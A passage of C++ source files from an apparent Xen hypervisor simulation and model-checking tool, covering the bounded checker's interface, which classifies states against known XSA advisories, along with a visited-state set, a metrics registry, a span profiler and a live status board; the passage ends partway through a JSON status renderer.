class SpanProfiler;
class StatusBoard;
}  // namespace ii::obs

namespace ii::analysis {

/// Shape of the bounded configuration and exploration limits.
struct ModelCheckConfig {
  hv::XenVersion version = hv::kXen46;
  /// Maximum operation-sequence length explored.
  unsigned depth = 2;
  /// Whole-machine size. Must fit Xen (16 frames) + all domains + slack
  /// for memory_exchange's fresh allocations.
  std::uint64_t machine_frames = 64;
  /// Unprivileged guests built next to dom0; ops are issued by guests.
  unsigned guest_domains = 1;
  std::uint64_t dom0_pages = 16;
  std::uint64_t domain_pages = 16;
  /// Include the grant-table ops (set_version / grant / map / unmap) in
  /// the alphabet. Off by default: the v2→v1 downgrade leak (XSA-387) is
  /// present on every pre-4.13 policy, so with grants enabled 4.8 is
  /// *expected* to show GrantLifecycle violations.
  bool include_grant_ops = false;
  /// Safety valves.
  std::uint64_t max_states = 100000;
  std::size_t max_counterexamples = 32;
  /// Worker threads for the single-pass owner-computes exploration: 0 picks
  /// hardware concurrency, 1 keeps the serial BFS. Any value produces
  /// byte-identical violations, counterexamples and render_report() —
  /// dedup admission is partitioned by state hash over fixed shards, and
  /// each shard owner independently reproduces the serial first-encounter
  /// decision (see DESIGN.md §16).
  unsigned threads = 1;
  /// Bound on resident frontier bytes (deterministic accounting: op-prefix
  /// labels + owned CoW frames + fixed per-item overhead). 0 = unbounded.
  /// When set, the frontier of a depth is also processed in chunks sized to
  /// the budget, so the expansion working set is bounded too. States past
  /// the budget spill to disk when spill_dir is set; with no spill_dir the
  /// budget only drives chunking and the frontier stays resident.
  std::uint64_t max_frontier_bytes = 0;
  /// Directory for the frontier spill file (created by the caller). Spilled
  /// states store their op prefix + expected hash and are re-derived by
  /// replay on reload — reports are byte-identical with or without
  /// spilling; only the extra replay applications differ (ops_executed).
  std::string spill_dir;
  /// Use the pre-delta exploration scheme (one full snapshot per expanded
  /// state, re-derive queued states by restoring the root and replaying the
  /// op prefix) instead of delta snapshot/restore. Kept for cross-checking:
  /// both schemes must produce identical results — tests diff them.
  /// Forces serial exploration.
  bool use_replay_fallback = false;
  /// Optional telemetry, both null by default (instrumentation then costs
  /// one branch per site). The profiler receives deterministic per-depth
  /// check/dN/{expand,audit} spans whose counts and steps are identical at
  /// any thread count — the serial driver records them directly, the
  /// sharded driver recomputes the serial tallies from its per-parent scan
  /// records — plus Sched-kind produce/admit/settle/spill engine phases
  /// (wall-only, per worker). The board receives live depth / frontier /
  /// states-explored updates for the /status endpoint. Single run per
  /// profiler: spans accumulate.
  obs::SpanProfiler* profiler = nullptr;
  obs::StatusBoard* status = nullptr;
};

/// The erroneous-state families of the paper's use cases, recognized in
/// violating states so the checker can *prove* which XSAs a version policy
/// admits (classification uses the same shared SystemWalk as the audits).
enum class ErroneousStateClass : std::uint8_t {
  Xsa148SuperpageWindow,   ///< writable 2 MiB leaf covering page-table frames
  Xsa182WritableSelfMap,   ///< writable 4 KiB leaf covering a table frame
  Xsa212IdtClobber,        ///< IDT gate no longer matches boot state
  Xsa387StaleGrantStatus,  ///< grant-status frame reachable after downgrade
  Other,                   ///< any violation outside the four families
};

[[nodiscard]] std::string to_string(ErroneousStateClass c);
inline constexpr std::size_t kErroneousStateClassCount = 5;

/// Classify a violating state against the paper's erroneous-state families,
/// over the same SystemWalk the invariant audit used. Sorted, deduplicated.
/// Public because the coverage-guided fuzzer (core/fuzz.hpp) reuses the
/// checker's recognizers to flag surviving states the four XSA scenarios do
/// not cover (those classify as ErroneousStateClass::Other).
[[nodiscard]] std::vector<ErroneousStateClass> classify_erroneous_state(
    const hv::Hypervisor& vmm, const hv::SystemWalk& walk,
    const hv::InvariantReport& report);

/// One operation of the enumerated alphabet, self-contained so a trace can
/// be replayed against a fresh machine of the same configuration.
struct Op {
  enum class Kind : std::uint8_t {
    MmuUpdate,
    Pin,
    Unpin,
    NewBaseptr,
    Exchange,
    GrantSetVersion,
    GrantAccess,
    GrantEndAccess,
  };
  Kind kind{};
  hv::DomainId caller = 0;
  // MmuUpdate: machine slot address and raw entry value.
  std::uint64_t ptr = 0;
  std::uint64_t val = 0;
  // Pin (level 1..4) / Unpin / NewBaseptr.
  sim::Mfn mfn{};
  int level = 0;
  // Exchange.
  sim::Pfn pfn{};
  sim::Vaddr out{};
  // Grant.
  unsigned gref = 0;
  unsigned version = 0;
  hv::DomainId peer = hv::kDomInvalid;
  /// Human-readable form, e.g. "d1: mmu_update l2[0] <- 0x100e7 (PSE)".
  std::string label;
};

/// A minimal trace into a violating state.
struct Counterexample {
  std::vector<Op> ops;             ///< root → violation, in order
  unsigned depth = 0;              ///< == ops.size()
  std::uint64_t state_hash = 0;    ///< hash of the violating state
  hv::InvariantReport report;      ///< the failed audit, with details
  std::vector<hv::Invariant> violated;          ///< deduplicated
  std::vector<ErroneousStateClass> classes;     ///< recognized families
  std::vector<std::string> state_diff;          ///< vs the parent state
  [[nodiscard]] std::string trace_string() const;
};

struct ModelCheckResult {
  ModelCheckConfig config;
  std::uint64_t states_explored = 0;  ///< unique states audited (incl. root)
  std::uint64_t ops_applied = 0;      ///< total operation applications
  std::uint64_t states_deduped = 0;   ///< successors folded by hash
  std::uint64_t failed_ops = 0;       ///< rc != 0 and state unchanged
  std::uint64_t violations_found = 0; ///< violating states (all, incl. uncaptured)
  bool truncated = false;             ///< hit max_states
  unsigned threads_used = 1;          ///< workers the run actually used
  std::vector<Counterexample> counterexamples;  ///< first max_counterexamples

  /// Snapshot-engine work done during the run (from the hypervisor's
  /// SnapshotStats): proof the incremental paths skip what they should.
  std::uint64_t snapshot_frames_copied = 0;  ///< frames written by restores
  std::uint64_t hash_frames_rehashed = 0;    ///< frame digests recomputed
  std::uint64_t delta_restores = 0;
  std::uint64_t full_restores = 0;
  std::uint64_t cow_captures = 0;            ///< CoW forest nodes captured
  std::uint64_t cow_frames_copied = 0;       ///< frames materialized as blocks
  std::uint64_t cow_frames_shared = 0;       ///< frames aliased from a parent

  /// Single-pass engine accounting. `ops_executed` counts actual op
  /// applications on any machine — enumeration plus spill-replay reloads —
  /// and equals ops_applied exactly when nothing spills and the run is not
  /// truncated. Kept out of render_report so reports stay byte-identical
  /// with or without spilling.
  std::uint64_t ops_executed = 0;
  std::uint64_t peak_frontier_bytes = 0;     ///< deterministic accounting
  std::uint64_t frontier_spilled_items = 0;  ///< states written to the spill
  std::uint64_t frontier_spill_reloads = 0;  ///< states replayed back in
  std::uint64_t frontier_spill_bytes = 0;    ///< bytes appended to the spill
  /// Visited-set occupancy per hash shard at the end of the run (identical
  /// at any thread count for non-truncated runs: the committed set is the
  /// reachable bounded space regardless of scheduling).
  std::vector<std::uint64_t> shard_occupancy;

  /// Per-invariant violating-state counts, indexed by hv::Invariant.
  std::array<std::uint64_t, hv::kInvariantCount> invariant_hits{};
  /// Violating-state counts per recognized erroneous-state class.
  std::array<std::uint64_t, kErroneousStateClassCount> class_hits{};

  [[nodiscard]] bool clean() const { return violations_found == 0; }
  [[nodiscard]] bool reached(ErroneousStateClass c) const {
    return class_hits[static_cast<std::size_t>(c)] != 0;
  }
};

/// Run the bounded check. Deterministic: identical config → identical
/// result, including counterexample order.
[[nodiscard]] ModelCheckResult run_model_check(const ModelCheckConfig& config);

/// Multi-line human-readable summary (what analysis_cli prints).
/// Byte-identical at any thread count; snapshot-engine work counters are
/// deliberately excluded (render_engine_stats) because per-worker restore
/// costs depend on scheduling.
[[nodiscard]] std::string render_report(const ModelCheckResult& result);

/// Engine work summary (restores, frames copied, digests redone, CoW
/// forest sharing, frontier peak/spill, shard occupancy). Kept out of
/// render_report: with multiple workers each machine restores from
/// whatever state it last held, and spilling changes replay work, so these
/// counters — and only these — vary with configuration and scheduling.
[[nodiscard]] std::string render_engine_stats(const ModelCheckResult& result);

/// CI-gate verdict shared by analysis_cli --expect and the preflight tests.
/// A truncated run never passes an `expect == "clean"` gate unless
/// `allow_truncated` is set: "no violation found" is meaningless when the
/// bounded space was not actually covered.
struct GateVerdict {
  bool pass = false;
  std::string message;  ///< one line, no trailing newline
};
[[nodiscard]] GateVerdict evaluate_expectation(const ModelCheckResult& result,
                                               std::string_view expect,
                                               bool allow_truncated = false);

}  // namespace ii::analysis
