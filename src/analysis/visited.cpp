// The one place visited-state sets may be mutated (see visited.hpp for the
// ownership protocol; ii_analyze rule `visited-ownership` holds every other
// file under src/analysis to the owner_* API).
#include "analysis/visited.hpp"

namespace ii::analysis {

ShardedVisited::ShardedVisited(std::size_t shards)
    : shards_{shards == 0 ? 1 : shards} {}

bool ShardedVisited::probe(std::uint64_t hash) const {
  return owner_contains(shard_of(hash), hash);
}

bool ShardedVisited::owner_contains(std::size_t shard,
                                    std::uint64_t hash) const {
  return shards_[shard].hashes.count(hash) != 0;
}

bool ShardedVisited::owner_insert(std::size_t shard, std::uint64_t hash) {
  return shards_[shard].hashes.insert(hash).second;
}

std::vector<std::uint64_t> ShardedVisited::occupancy() const {
  std::vector<std::uint64_t> out;
  out.reserve(shards_.size());
  for (std::size_t s = 0; s < shards_.size(); ++s) {
    out.push_back(shards_[s].hashes.size());
  }
  return out;
}

std::uint64_t ShardedVisited::total() const {
  std::uint64_t n = 0;
  for (std::size_t s = 0; s < shards_.size(); ++s) {
    n += shards_[s].hashes.size();
  }
  return n;
}

}  // namespace ii::analysis
