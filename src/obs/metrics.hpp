// Metrics registry: named counters and fixed-bucket latency histograms.
//
// The registry is the aggregation side of the observability layer: trace
// sinks hold cheap per-category/per-nr arrays, and this module turns those
// (plus explicit measurements like per-cell wall time or benchmark
// latencies) into named, snapshot-able, mergeable values. std::map keeps
// iteration — and therefore every rendered table and JSONL line —
// deterministic.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "obs/trace.hpp"

namespace ii::obs {

/// Monotonic named counter.
class Counter {
 public:
  void inc(std::uint64_t delta = 1) { value_ += delta; }
  [[nodiscard]] std::uint64_t value() const { return value_; }

 private:
  std::uint64_t value_ = 0;
};

/// Fixed-bucket histogram. Buckets are [0, b0], (b0, b1], ..., (bn, inf);
/// bounds are chosen at construction and never reallocated on record(), so
/// the record path is a binary search plus two increments.
class Histogram {
 public:
  /// `bounds` must be strictly ascending upper bounds.
  explicit Histogram(std::vector<std::uint64_t> bounds);

  /// Geometric bucket ladder: first, first*factor, ... (`count` bounds).
  [[nodiscard]] static std::vector<std::uint64_t> exponential_bounds(
      std::uint64_t first, std::uint64_t factor, std::size_t count);

  void record(std::uint64_t value);

  /// Exact bucket-wise fold of another histogram with identical bounds:
  /// buckets, count and sum add, min/max take the extremes. O(buckets),
  /// independent of how many samples `other` holds, and deterministic under
  /// any merge order — the per-worker aggregation path. Throws
  /// std::invalid_argument on a bounds mismatch.
  void merge(const Histogram& other);
  /// Same fold from snapshot parts (the registry merge path). `buckets`
  /// must have bounds().size() + 1 entries.
  void merge_parts(const std::vector<std::uint64_t>& buckets,
                   std::uint64_t count, std::uint64_t sum, std::uint64_t min,
                   std::uint64_t max);

  [[nodiscard]] std::uint64_t count() const { return count_; }
  [[nodiscard]] std::uint64_t sum() const { return sum_; }
  [[nodiscard]] std::uint64_t min() const { return count_ ? min_ : 0; }
  [[nodiscard]] std::uint64_t max() const { return max_; }
  [[nodiscard]] double mean() const {
    return count_ ? static_cast<double>(sum_) / static_cast<double>(count_)
                  : 0.0;
  }
  /// Estimated p-th percentile (p in [0,1]), linearly interpolated within
  /// the containing bucket. Returns 0 for an empty histogram.
  [[nodiscard]] double percentile(double p) const;

  [[nodiscard]] const std::vector<std::uint64_t>& bounds() const {
    return bounds_;
  }
  /// bounds().size() + 1 buckets; the last is the overflow bucket.
  [[nodiscard]] const std::vector<std::uint64_t>& buckets() const {
    return buckets_;
  }

 private:
  std::vector<std::uint64_t> bounds_;
  std::vector<std::uint64_t> buckets_;
  std::uint64_t count_ = 0;
  std::uint64_t sum_ = 0;
  std::uint64_t min_ = 0;
  std::uint64_t max_ = 0;
};

/// Value-type copy of a registry (or sink) at one instant: cheap to take,
/// cheap to ship across threads, mergeable.
struct MetricsSnapshot {
  struct HistogramData {
    std::vector<std::uint64_t> bounds;
    std::vector<std::uint64_t> buckets;
    std::uint64_t count = 0;
    std::uint64_t sum = 0;
    std::uint64_t min = 0;
    std::uint64_t max = 0;
    double p50 = 0.0;
    double p95 = 0.0;
    double p99 = 0.0;
  };
  std::map<std::string, std::uint64_t> counters;
  std::map<std::string, HistogramData> histograms;

  [[nodiscard]] std::uint64_t counter(const std::string& name) const {
    auto it = counters.find(name);
    return it == counters.end() ? 0 : it->second;
  }
};

class MetricsRegistry {
 public:
  /// Find-or-create. References stay valid for the registry's lifetime
  /// (node-based map), so hot paths can hold them across iterations.
  Counter& counter(const std::string& name);
  Histogram& histogram(const std::string& name,
                       std::vector<std::uint64_t> bounds =
                           Histogram::exponential_bounds(16, 2, 26));

  [[nodiscard]] MetricsSnapshot snapshot() const;

  /// Add `other`'s counters into this registry and fold its histograms
  /// bucket-by-bucket (histograms with mismatched bounds are summed into
  /// count/sum only, keeping the merge total-preserving).
  void merge(const MetricsSnapshot& other);

 private:
  std::map<std::string, Counter> counters_;
  std::map<std::string, Histogram> histograms_;
};

/// Flatten a sink's aggregate counters into a snapshot: one
/// "trace.<category>" counter per nonzero category and one
/// "hypercall.nr<N>" counter per nonzero hypercall number.
[[nodiscard]] MetricsSnapshot sink_metrics(const TraceSink& sink);

}  // namespace ii::obs
