#include "obs/span.hpp"

#include <algorithm>
#include <array>
#include <cstdio>
#include <sstream>
#include <stdexcept>

namespace ii::obs {

namespace {

struct SpanNameEntry {
  std::string_view name;
  std::string_view what;
};

// Render-name table: one row per registered span constant. ii-lint rule
// span-render-name checks that every kSpan* constant referenced from src/
// has a row here, so a new instrumentation site cannot ship an unnamed
// phase.
constexpr std::array kSpanNameTable{
    SpanNameEntry{kSpanCheck, "bounded model check run"},
    SpanNameEntry{kSpanExpand, "apply every enabled op to a parent state"},
    SpanNameEntry{kSpanAudit, "invariant audit of a newly discovered state"},
    SpanNameEntry{kSpanProduce, "parallel expand: apply ops, capture CoW children"},
    SpanNameEntry{kSpanAdmit, "owner-shard admission over candidate inboxes"},
    SpanNameEntry{kSpanSettle, "parallel audit of admitted states + assembly"},
    SpanNameEntry{kSpanSpill, "frontier spill writes and replay reloads"},
    SpanNameEntry{kSpanCell, "one campaign cell (use case x version x mode)"},
    SpanNameEntry{kSpanAcquire, "platform acquisition (pool lease or boot)"},
    SpanNameEntry{kSpanRestore, "rewind platform to the boot baseline"},
    SpanNameEntry{kSpanInject, "run the cell's exploit or injection payload"},
    SpanNameEntry{kSpanMonitor, "erroneous-state and violation detection"},
    SpanNameEntry{kSpanRecover, "ReHype-style microreboot recovery"},
    SpanNameEntry{kSpanSupervisor, "campaign supervisor worker loop"},
    SpanNameEntry{kSpanRetry, "re-run of a failed cell attempt"},
    SpanNameEntry{kSpanQuarantine, "cell retired after repeated failures"},
    SpanNameEntry{kSpanJournal, "resume-journal rewrite and append"},
    SpanNameEntry{kSpanChaos, "chaos-engine fault absorbed by the worker"},
    SpanNameEntry{kSpanPreAudit, "invariant audit before recovery"},
    SpanNameEntry{kSpanIdt, "restore corrupted IDT gates"},
    SpanNameEntry{kSpanFrameTable, "rebuild frame types and refcounts"},
    SpanNameEntry{kSpanP2m, "reconcile p2m against the frame table"},
    SpanNameEntry{kSpanDomains, "scrub and re-pin per-domain page tables"},
    SpanNameEntry{kSpanGrants, "re-derive grant mapping bookkeeping"},
    SpanNameEntry{kSpanPostAudit, "invariant audit after recovery"},
    SpanNameEntry{kSpanFuzz, "coverage-guided sequence-fuzzer run"},
    SpanNameEntry{kSpanFuzzExec, "execute one fuzz trace on a rewound platform"},
    SpanNameEntry{kSpanFuzzMinimize, "delta-debug shrink of a surviving trace"},
    SpanNameEntry{kSpanFuzzCorpus, "corpus trace-file reads and writes"},
};

}  // namespace

std::string_view span_name_description(std::string_view name) {
  for (const SpanNameEntry& e : kSpanNameTable) {
    if (e.name == name) return e.what;
  }
  return {};
}

std::vector<std::string_view> registered_span_names() {
  std::vector<std::string_view> names;
  names.reserve(kSpanNameTable.size());
  for (const SpanNameEntry& e : kSpanNameTable) names.push_back(e.name);
  return names;
}

std::uint64_t SpanNode::total_steps(bool include_sched) const {
  if (!include_sched && kind == SpanKind::Sched) return 0;
  std::uint64_t total = steps;
  for (const auto& [name_, child] : children) {
    total += child->total_steps(include_sched);
  }
  return total;
}

// ------------------------------------------------------------ SpanProfiler

namespace {

SpanNode* child_of(SpanNode* parent, std::string_view name, SpanKind kind) {
  const auto it = parent->children.find(name);
  if (it != parent->children.end()) {
    // A node touched from both a Det and a Sched site is
    // scheduling-dependent; Sched is sticky so the deterministic render
    // never shows a partially accounted span.
    if (kind == SpanKind::Sched) it->second->kind = SpanKind::Sched;
    return it->second.get();
  }
  auto node = std::make_unique<SpanNode>();
  node->name = std::string{name};
  node->kind = kind;
  SpanNode* raw = node.get();
  parent->children.emplace(raw->name, std::move(node));
  return raw;
}

}  // namespace

void SpanProfiler::enter(std::string_view name, SpanKind kind) {
  SpanNode* parent = stack_.empty() ? &root_ : stack_.back();
  SpanNode* node = child_of(parent, name, kind);
  node->count += 1;
  stack_.push_back(node);
}

std::size_t SpanProfiler::enter_path(
    std::initializer_list<std::string_view> path, SpanKind kind) {
  const std::size_t mark = stack_.size();
  SpanNode* node = &root_;
  // Only the leaf carries `kind`: a Sched leaf under a Det ancestor (the
  // parallel checker's classify under check/dN) must not taint the
  // ancestor out of the deterministic render.
  std::size_t remaining = path.size();
  for (const std::string_view segment : path) {
    node = child_of(node, segment, --remaining == 0 ? kind : SpanKind::Det);
    stack_.push_back(node);
  }
  if (node != &root_) node->count += 1;
  return mark;
}

void SpanProfiler::exit() {
  if (stack_.empty()) throw std::logic_error{"SpanProfiler::exit at root"};
  stack_.pop_back();
}

void SpanProfiler::exit_to(std::size_t mark) {
  if (mark > stack_.size()) {
    throw std::logic_error{"SpanProfiler::exit_to beyond cursor"};
  }
  stack_.resize(mark);
}

void SpanProfiler::add_steps(std::uint64_t n) {
  SpanNode* node = stack_.empty() ? &root_ : stack_.back();
  node->steps += n;
}

void SpanProfiler::add_wall_ns(std::uint64_t ns) {
  SpanNode* node = stack_.empty() ? &root_ : stack_.back();
  node->wall_ns += ns;
}

void SpanProfiler::add(std::initializer_list<std::string_view> path,
                       std::uint64_t count, std::uint64_t steps,
                       SpanKind kind) {
  SpanNode* node = node_at(path, kind);
  node->count += count;
  node->steps += steps;
}

SpanNode* SpanProfiler::node_at(std::initializer_list<std::string_view> path,
                                SpanKind kind) {
  SpanNode* node = &root_;
  std::size_t remaining = path.size();
  for (const std::string_view segment : path) {
    node = child_of(node, segment, --remaining == 0 ? kind : SpanKind::Det);
  }
  return node;
}

std::string SpanProfiler::current_path() const {
  std::string path;
  for (const SpanNode* node : stack_) {
    if (!path.empty()) path += '/';
    path += node->name;
  }
  return path;
}

namespace {

void merge_node(SpanNode* into, const SpanNode& from) {
  into->count += from.count;
  into->steps += from.steps;
  into->wall_ns += from.wall_ns;
  if (from.kind == SpanKind::Sched) into->kind = SpanKind::Sched;
  for (const auto& [name, child] : from.children) {
    merge_node(child_of(into, name, child->kind), *child);
  }
}

}  // namespace

void SpanProfiler::merge(const SpanProfiler& other) {
  for (const auto& [name, child] : other.root_.children) {
    merge_node(child_of(&root_, name, child->kind), *child);
  }
  root_.steps += other.root_.steps;
  events_.insert(events_.end(), other.events_.begin(), other.events_.end());
}

void SpanProfiler::reset() {
  if (!stack_.empty()) {
    throw std::logic_error{"SpanProfiler::reset inside an open span"};
  }
  root_ = SpanNode{};
  events_.clear();
}

// -------------------------------------------------------------- ScopedSpan

ScopedSpan::ScopedSpan(SpanProfiler* profiler, std::string_view name,
                       SpanKind kind, const TraceSink* step_source)
    : profiler_{profiler} {
  if (profiler_ == nullptr) return;
  mark_ = profiler_->cursor_mark();
  profiler_->enter(name, kind);
  // A relative enter nests under the cursor, so the stack is the path.
  if (profiler_->record_events()) path_ = profiler_->current_path();
  begin(kind, step_source);
}

ScopedSpan::ScopedSpan(SpanProfiler* profiler,
                       std::initializer_list<std::string_view> path,
                       SpanKind kind, const TraceSink* step_source)
    : profiler_{profiler} {
  if (profiler_ == nullptr) return;
  mark_ = profiler_->enter_path(path, kind);
  if (profiler_->record_events()) {
    for (const std::string_view segment : path) {
      if (!path_.empty()) path_ += '/';
      path_ += segment;
    }
  }
  begin(kind, step_source);
}

void ScopedSpan::begin(SpanKind kind, const TraceSink* step_source) {
  kind_ = kind;
  step_source_ = step_source;
  if (step_source_ != nullptr) start_sink_steps_ = step_source_->emitted();
  start_ = SpanProfiler::Clock::now();
}

ScopedSpan::~ScopedSpan() { end(); }

void ScopedSpan::end() {
  if (profiler_ == nullptr) return;
  const auto now = SpanProfiler::Clock::now();
  if (step_source_ != nullptr) {
    const std::uint64_t delta = step_source_->emitted() - start_sink_steps_;
    span_steps_ += delta;
    profiler_->add_steps(delta);
  }
  const std::uint64_t wall_ns = static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(now - start_)
          .count());
  profiler_->add_wall_ns(wall_ns);
  if (profiler_->record_events()) {
    SpanEvent event;
    event.path = path_;
    event.kind = kind_;
    event.tid = profiler_->tid();
    event.ts_us = static_cast<std::uint64_t>(
        std::chrono::duration_cast<std::chrono::microseconds>(start_ -
                                                              profiler_->epoch())
            .count());
    event.dur_us = wall_ns / 1000;
    event.steps = span_steps_;
    profiler_->record_event(std::move(event));
  }
  profiler_->exit_to(mark_);
  profiler_ = nullptr;  // idempotence: a later end()/dtor is a no-op
}

void ScopedSpan::add_steps(std::uint64_t n) {
  if (profiler_ == nullptr) return;
  span_steps_ += n;
  profiler_->add_steps(n);
}

// ----------------------------------------------------------------- renders

namespace {

bool subtree_visible(const SpanNode& node, bool include_wall) {
  return include_wall || node.kind == SpanKind::Det;
}

void render_node(std::ostringstream& os, const SpanNode& node, int depth,
                 bool include_wall) {
  if (!subtree_visible(node, include_wall)) return;
  std::string label(static_cast<std::size_t>(depth) * 2, ' ');
  label += node.name;
  if (node.kind == SpanKind::Sched) label += " *";
  os << "  " << label;
  const int pad = 28 - static_cast<int>(label.size());
  for (int i = 0; i < std::max(pad, 1); ++i) os << ' ';
  char buf[96];
  if (include_wall) {
    std::snprintf(buf, sizeof buf, "%10llu %12llu %12llu %12llu\n",
                  static_cast<unsigned long long>(node.count),
                  static_cast<unsigned long long>(node.total_steps(true)),
                  static_cast<unsigned long long>(node.steps),
                  static_cast<unsigned long long>(node.wall_ns / 1000));
  } else {
    std::snprintf(buf, sizeof buf, "%10llu %12llu %12llu\n",
                  static_cast<unsigned long long>(node.count),
                  static_cast<unsigned long long>(node.total_steps(false)),
                  static_cast<unsigned long long>(node.steps));
  }
  os << buf;
  for (const auto& [name, child] : node.children) {
    render_node(os, *child, depth + 1, include_wall);
  }
}

}  // namespace

std::string render_profile(const SpanProfiler& profiler, bool include_wall) {
  std::ostringstream os;
  os << "span profile (" << (include_wall ? "steps + wall" : "deterministic")
     << ")\n";
  os << "  span                             count  total steps   self steps";
  if (include_wall) os << "      wall us";
  os << '\n';
  for (const auto& [name, child] : profiler.root().children) {
    render_node(os, *child, 0, include_wall);
  }
  if (include_wall) {
    os << "  (* = scheduling-dependent span, excluded from the "
          "deterministic profile)\n";
  }
  return os.str();
}

std::string chrome_trace_json(const SpanProfiler& profiler) {
  std::ostringstream os;
  os << "{\"traceEvents\":[";
  bool first = true;
  for (const SpanEvent& event : profiler.events()) {
    if (!first) os << ',';
    first = false;
    os << "{\"name\":\"" << event.path << "\",\"ph\":\"X\",\"pid\":1,\"tid\":"
       << event.tid << ",\"ts\":" << event.ts_us << ",\"dur\":" << event.dur_us
       << ",\"cat\":\"" << (event.kind == SpanKind::Sched ? "sched" : "det")
       << "\",\"args\":{\"steps\":" << event.steps << "}}";
  }
  os << "]}";
  return os.str();
}

}  // namespace ii::obs
