// Live status board: lock-free progress counters shared between the
// campaign/checker worker threads (writers) and a status endpoint reader.
//
// The board is the one deliberately *non*-deterministic piece of the
// observability layer: it exists to answer "how far along is this run
// right now", so a snapshot taken mid-run depends on scheduling. Nothing
// rendered from it feeds a cmp-gated artifact. All fields are relaxed
// atomics — readers tolerate slightly stale, torn-across-fields views in
// exchange for writers paying a single uncontended store per update.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>
#include <vector>

#include "obs/metrics.hpp"

namespace ii::obs {

/// Value-type copy of a StatusBoard at one instant.
struct StatusSnapshot {
  bool campaign_active = false;
  std::uint64_t cells_total = 0;
  std::uint64_t cells_done = 0;
  std::uint64_t cells_failed = 0;
  std::uint64_t retries = 0;
  std::uint64_t quarantined = 0;
  std::uint64_t recovered = 0;
  /// Per-worker heartbeat: monotonic count of cells the worker finished.
  std::vector<std::uint64_t> worker_heartbeat;

  bool checker_active = false;
  std::uint64_t checker_depth = 0;
  std::uint64_t checker_frontier = 0;
  std::uint64_t checker_states = 0;
  std::uint64_t checker_violations = 0;
};

class StatusBoard {
 public:
  static constexpr std::size_t kMaxWorkers = 64;

  // -- campaign writers ----------------------------------------------------
  void campaign_begin(std::uint64_t cells_total, unsigned workers);
  void campaign_end() { campaign_active_.store(false, relaxed); }
  void cell_done(unsigned worker, bool failed);
  void add_retry() { retries_.fetch_add(1, relaxed); }
  void add_quarantine() { quarantined_.fetch_add(1, relaxed); }
  void add_recovered() { recovered_.fetch_add(1, relaxed); }

  // -- checker writers -----------------------------------------------------
  void checker_begin();
  void checker_depth(std::uint64_t depth, std::uint64_t frontier);
  void checker_progress(std::uint64_t states, std::uint64_t violations);
  void checker_end() { checker_active_.store(false, relaxed); }

  // -- reader --------------------------------------------------------------
  [[nodiscard]] StatusSnapshot snapshot() const;

 private:
  static constexpr std::memory_order relaxed = std::memory_order_relaxed;

  std::atomic<bool> campaign_active_{false};
  std::atomic<std::uint64_t> cells_total_{0};
  std::atomic<std::uint64_t> cells_done_{0};
  std::atomic<std::uint64_t> cells_failed_{0};
  std::atomic<std::uint64_t> retries_{0};
  std::atomic<std::uint64_t> quarantined_{0};
  std::atomic<std::uint64_t> recovered_{0};
  std::atomic<std::uint64_t> workers_{0};
  std::atomic<std::uint64_t> heartbeat_[kMaxWorkers]{};

  std::atomic<bool> checker_active_{false};
  std::atomic<std::uint64_t> checker_depth_{0};
  std::atomic<std::uint64_t> checker_frontier_{0};
  std::atomic<std::uint64_t> checker_states_{0};
  std::atomic<std::uint64_t> checker_violations_{0};
};

/// /status payload: one JSON object (sorted, stable key order).
[[nodiscard]] std::string render_status_json(const StatusSnapshot& status);

/// /metrics payload: Prometheus text exposition format, version 0.0.4.
/// Board gauges/counters first, then — when a metrics snapshot is supplied —
/// every counter as `ii_<name>` and every histogram as the canonical
/// _bucket/_sum/_count triple with cumulative le labels. Metric names are
/// sanitized to [a-zA-Z0-9_:].
[[nodiscard]] std::string render_prometheus(
    const StatusSnapshot& status, const MetricsSnapshot* metrics = nullptr);

}  // namespace ii::obs
