#include "obs/status.hpp"

#include <algorithm>
#include <sstream>

namespace ii::obs {

void StatusBoard::campaign_begin(std::uint64_t cells_total, unsigned workers) {
  cells_total_.store(cells_total, relaxed);
  cells_done_.store(0, relaxed);
  cells_failed_.store(0, relaxed);
  retries_.store(0, relaxed);
  quarantined_.store(0, relaxed);
  recovered_.store(0, relaxed);
  const std::uint64_t n =
      std::min<std::uint64_t>(workers == 0 ? 1 : workers, kMaxWorkers);
  workers_.store(n, relaxed);
  for (std::uint64_t w = 0; w < n; ++w) heartbeat_[w].store(0, relaxed);
  campaign_active_.store(true, relaxed);
}

void StatusBoard::cell_done(unsigned worker, bool failed) {
  cells_done_.fetch_add(1, relaxed);
  if (failed) cells_failed_.fetch_add(1, relaxed);
  if (worker < kMaxWorkers) heartbeat_[worker].fetch_add(1, relaxed);
}

void StatusBoard::checker_begin() {
  checker_depth_.store(0, relaxed);
  checker_frontier_.store(0, relaxed);
  checker_states_.store(0, relaxed);
  checker_violations_.store(0, relaxed);
  checker_active_.store(true, relaxed);
}

void StatusBoard::checker_depth(std::uint64_t depth, std::uint64_t frontier) {
  checker_depth_.store(depth, relaxed);
  checker_frontier_.store(frontier, relaxed);
}

void StatusBoard::checker_progress(std::uint64_t states,
                                   std::uint64_t violations) {
  checker_states_.store(states, relaxed);
  checker_violations_.store(violations, relaxed);
}

StatusSnapshot StatusBoard::snapshot() const {
  StatusSnapshot s;
  s.campaign_active = campaign_active_.load(relaxed);
  s.cells_total = cells_total_.load(relaxed);
  s.cells_done = cells_done_.load(relaxed);
  s.cells_failed = cells_failed_.load(relaxed);
  s.retries = retries_.load(relaxed);
  s.quarantined = quarantined_.load(relaxed);
  s.recovered = recovered_.load(relaxed);
  const std::uint64_t workers = workers_.load(relaxed);
  s.worker_heartbeat.reserve(workers);
  for (std::uint64_t w = 0; w < workers && w < kMaxWorkers; ++w) {
    s.worker_heartbeat.push_back(heartbeat_[w].load(relaxed));
  }
  s.checker_active = checker_active_.load(relaxed);
  s.checker_depth = checker_depth_.load(relaxed);
  s.checker_frontier = checker_frontier_.load(relaxed);
  s.checker_states = checker_states_.load(relaxed);
  s.checker_violations = checker_violations_.load(relaxed);
  return s;
}

std::string render_status_json(const StatusSnapshot& status) {
  std::ostringstream os;
  os << "{\"campaign\":{\"active\":"
     << (status.campaign_active ? "true" : "false")
     << ",\"cells_total\":" << status.cells_total
     << ",\"cells_done\":" << status.cells_done
     << ",\"cells_failed\":" << status.cells_failed
     << ",\"retries\":" << status.retries
     << ",\"quarantined\":" << status.quarantined
     << ",\"recovered\":" << status.recovered << ",\"workers\":[";
  for (std::size_t w = 0; w < status.worker_heartbeat.size(); ++w) {
    if (w != 0) os << ',';
    os << "{\"worker\":" << w
